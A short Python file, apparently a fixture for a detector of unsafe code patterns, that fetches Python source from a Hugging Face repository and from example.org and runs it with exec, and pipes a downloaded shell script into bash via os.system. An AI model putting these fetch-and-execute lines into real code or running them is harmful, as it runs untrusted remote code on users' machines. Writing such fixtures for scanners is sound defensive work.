import os
import subprocess
from urllib.request import urlopen

import requests
from huggingface_hub import hf_hub_download

path = hf_hub_download("owner/name", "app.py")
with open(path) as file:
    source = file.read()
exec(source)
exec(requests.get("https://example.org/app.py").text)
exec(urlopen("https://example.org/app.py").read().decode())
os.system("curl -s https://example.org/install.sh | bash")
subprocess.run("curl -s https://example.org/data.json | jq .", shell=True)
